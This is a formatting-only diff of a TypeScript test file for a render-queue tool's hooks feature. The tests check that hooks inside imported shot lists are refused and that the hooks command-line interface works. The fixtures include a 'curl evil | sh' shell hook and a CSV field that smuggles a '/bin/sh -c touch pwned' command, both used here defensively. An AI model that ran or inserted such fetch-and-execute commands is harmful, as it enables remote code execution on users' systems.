@@ -13,7 +13,9 @@ import { ShotfarmError } from '../../shared/errors.js';
 import { engineFor, importText, RESOURCES } from '../helpers/engine.js';
 
 const sample = JSON.parse(readFileSync(`${RESOURCES}samples/shot_list.json`, 'utf8'));
-const evilHook = [{ id: 'pwn', on: ['completed'], kind: 'command', command: '/bin/sh', args: ['-c', 'curl evil | sh'] }];
+const evilHook = [
+  { id: 'pwn', on: ['completed'], kind: 'command', command: '/bin/sh', args: ['-c', 'curl evil | sh'] },
+];
 
 const cli = runCli;
 
@@ -22,7 +24,11 @@ test('a shot list carrying hooks is refused whole, and no hook is configured by 
   const withHooks = JSON.stringify({ ...sample, hooks: evilHook });
   await assert.rejects(
     t.engine.call('import.preview', { fileName: 'shot_list.json', content: withHooks, baseDir: `${RESOURCES}samples` }),
-    (err: unknown) => err instanceof ShotfarmError && err.code === 'bad_input' && /not a valid shot list/.test(err.message) && /hooks/.test(err.message),
+    (err: unknown) =>
+      err instanceof ShotfarmError &&
+      err.code === 'bad_input' &&
+      /not a valid shot list/.test(err.message) &&
+      /hooks/.test(err.message),
   );
   assert.deepEqual(getHooks(t.engine.db), []);
   assert.equal((t.engine.db.prepare('SELECT COUNT(*) AS n FROM jobs').get() as { n: number }).n, 0);
@@ -42,12 +48,22 @@ test('a shot carrying hooks is a row error; the rows that import configure no ho
 test('a "Hooks" column in a CSV shot list is inert metadata: nothing runs for its jobs', async (ctx) => {
   const t = await engineFor(ctx);
   const csv = `Shot,Stage,Template,Prompt,input:image,Hooks\nsh010,keyframe,keyframe-img2img,a moon,plates/sh010.png,"/bin/sh -c 'touch ${join(tmpdir(), 'pwned')}'"\n`;
-  const preview = await t.engine.call('import.preview', { fileName: 'shots.csv', content: csv, baseDir: `${RESOURCES}samples`,
-    mapping: { project: 'Moonfall', episode: 'ep101' } });
+  const preview = await t.engine.call('import.preview', {
+    fileName: 'shots.csv',
+    content: csv,
+    baseDir: `${RESOURCES}samples`,
+    mapping: { project: 'Moonfall', episode: 'ep101' },
+  });
   const { jobIds } = await t.engine.call('import.commit', { previewId: preview.previewId });
   assert.equal(jobIds.length, 1);
   assert.deepEqual(getHooks(t.engine.db), []);
-  const runner = new HookRunner({ db: t.engine.db, clock: t.clock, timers: systemTimers, random: () => 0, log: () => undefined });
+  const runner = new HookRunner({
+    db: t.engine.db,
+    clock: t.clock,
+    timers: systemTimers,
+    random: () => 0,
+    log: () => undefined,
+  });
   const job = await t.engine.call('jobs.get', { id: jobIds[0]! });
   assert.deepEqual(runner.notify({ ...job, state: 'completed' }), []);
   await runner.close();
@@ -56,18 +72,58 @@ test('a "Hooks" column in a CSV shot list is inert metadata: nothing runs for it
 
 test('hooks add-command, add-webhook, list, remove and deliveries from the command line', async (ctx) => {
   const t = await engineFor(ctx, { templates: false });
-  const added = await cli(t.dir, 'hooks', 'add-command', 'notify', '--on', 'completed,failed', '--timeout', '5000', '--',
-    '/usr/local/bin/notify-render', '--channel', 'my renders');
+  const added = await cli(
+    t.dir,
+    'hooks',
+    'add-command',
+    'notify',
+    '--on',
+    'completed,failed',
+    '--timeout',
+    '5000',
+    '--',
+    '/usr/local/bin/notify-render',
+    '--channel',
+    'my renders',
+  );
   assert.equal(added.code, EXIT.ok, added.err);
-  assert.equal(added.out, 'Added hook notify: on completed, failed run /usr/local/bin/notify-render --channel "my renders"');
-  assert.equal((await cli(t.dir, 'hooks', 'add-webhook', 'chat', 'https://chat.example/hook/T0K3N', '--on', 'failed', '--retries', '5')).code, EXIT.ok);
+  assert.equal(
+    added.out,
+    'Added hook notify: on completed, failed run /usr/local/bin/notify-render --channel "my renders"',
+  );
+  assert.equal(
+    (
+      await cli(
+        t.dir,
+        'hooks',
+        'add-webhook',
+        'chat',
+        'https://chat.example/hook/T0K3N',
+        '--on',
+        'failed',
+        '--retries',
+        '5',
+      )
+    ).code,
+    EXIT.ok,
+  );
 
   assert.deepEqual(JSON.parse((await cli(t.dir, '--json', 'hooks', 'list')).out), [
-    { id: 'notify', on: ['completed', 'failed'], timeoutMs: 5000, kind: 'command', command: '/usr/local/bin/notify-render', args: ['--channel', 'my renders'] },
+    {
+      id: 'notify',
+      on: ['completed', 'failed'],
+      timeoutMs: 5000,
+      kind: 'command',
+      command: '/usr/local/bin/notify-render',
+      args: ['--channel', 'my renders'],
+    },
     // The token in the path is masked in every answer (the hook keeps it: the deliveries use it).
     { id: 'chat', on: ['failed'], retries: 5, kind: 'webhook', url: 'https://chat.example/hook/***' },
   ]);
-  assert.match((await cli(t.dir, 'hooks', 'list')).out, /chat\s+webhook\s+failed\s+https:\/\/chat\.example\/hook\/\*\*\*\s+10000\s+5/);
+  assert.match(
+    (await cli(t.dir, 'hooks', 'list')).out,
+    /chat\s+webhook\s+failed\s+https:\/\/chat\.example\/hook\/\*\*\*\s+10000\s+5/,
+  );
 
   const dup = await cli(t.dir, 'hooks', 'add-webhook', 'chat', 'https://other.example/', '--on', 'failed');
   assert.equal(dup.code, EXIT.conflict);
@@ -80,23 +136,76 @@ test('hooks add-command, add-webhook, list, remove and deliveries from the comma
 
   assert.equal((await cli(t.dir, 'hooks', 'remove', 'notify')).code, EXIT.ok);
   assert.equal((await cli(t.dir, 'hooks', 'remove', 'notify')).code, EXIT.notFound);
-  assert.deepEqual(JSON.parse((await cli(t.dir, '--json', 'hooks', 'list')).out).map((h: { id: string }) => h.id), ['chat']);
+  assert.deepEqual(
+    JSON.parse((await cli(t.dir, '--json', 'hooks', 'list')).out).map((h: { id: string }) => h.id),
+    ['chat'],
+  );
 
   assert.equal((await cli(t.dir, 'hooks', 'deliveries', '--status', 'failed')).out, 'No deliveries.');
   // A delivery that failed for good shows up with its error.
-  await cli(t.dir, 'hooks', 'add-command', 'missing', '--on', 'completed', '--retries', '0', '--', '/nonexistent/notify-render');
-  const runner = new HookRunner({ db: t.engine.db, clock: t.clock, timers: systemTimers, random: () => 0, log: () => undefined });
-  const job = { id: '00000000-0000-4000-8000-000000000001', project: 'P', episode: 'E', shot: 's', stage: 'k', take: 1, template: 't',
-    priority: 'normal', rank: 0, state: 'completed', stateReason: null, errorClass: null, attempts: 1, maxAttempts: 3, instanceId: null,
-    dependsOn: null, seed: 1, vramGb: 8, tags: [], blocked: false, waitReason: null, progress: null, attempt: null, contact: null, enqueuedAt: 1, startedAt: 2, finishedAt: 3, updatedAt: 3 } as const;
+  await cli(
+    t.dir,
+    'hooks',
+    'add-command',
+    'missing',
+    '--on',
+    'completed',
+    '--retries',
+    '0',
+    '--',
+    '/nonexistent/notify-render',
+  );
+  const runner = new HookRunner({
+    db: t.engine.db,
+    clock: t.clock,
+    timers: systemTimers,
+    random: () => 0,
+    log: () => undefined,
+  });
+  const job = {
+    id: '00000000-0000-4000-8000-000000000001',
+    project: 'P',
+    episode: 'E',
+    shot: 's',
+    stage: 'k',
+    take: 1,
+    template: 't',
+    priority: 'normal',
+    rank: 0,
+    state: 'completed',
+    stateReason: null,
+    errorClass: null,
+    attempts: 1,
+    maxAttempts: 3,
+    instanceId: null,
+    dependsOn: null,
+    seed: 1,
+    vramGb: 8,
+    tags: [],
+    blocked: false,
+    waitReason: null,
+    progress: null,
+    attempt: null,
+    contact: null,
+    enqueuedAt: 1,
+    startedAt: 2,
+    finishedAt: 3,
+    updatedAt: 3,
+  } as const;
   assert.equal(runner.notify({ ...job, tags: [] }).length, 1);
   await runner.whenIdle();
   await runner.close();
   const deliveries = await cli(t.dir, 'hooks', 'deliveries', '--status', 'failed');
   assert.equal(deliveries.code, EXIT.ok);
-  assert.match(deliveries.out, /missing\s+00000000\s+completed\s+failed\s+1\s+.*The program \/nonexistent\/notify-render was not found/);
+  assert.match(
+    deliveries.out,
+    /missing\s+00000000\s+completed\s+failed\s+1\s+.*The program \/nonexistent\/notify-render was not found/,
+  );
   assert.equal(JSON.parse((await cli(t.dir, '--json', 'hooks', 'deliveries')).out)[0].status, 'failed');
   assert.equal((await cli(t.dir, 'hooks', 'deliveries', '--status', 'lost')).code, EXIT.badInput);
   assert.equal((await cli(t.dir, 'hooks', 'clear')).code, EXIT.ok);
-  assert.equal((await cli(t.dir, 'hooks', 'list')).out, 'No hooks. Add one with: shotfarm hooks add-command | add-webhook');
+  assert.equal(
+    (await cli(t.dir, 'hooks', 'list')).out,
+    'No hooks. Add one with: shotfarm hooks add-command | add-webhook',
+  );
 });
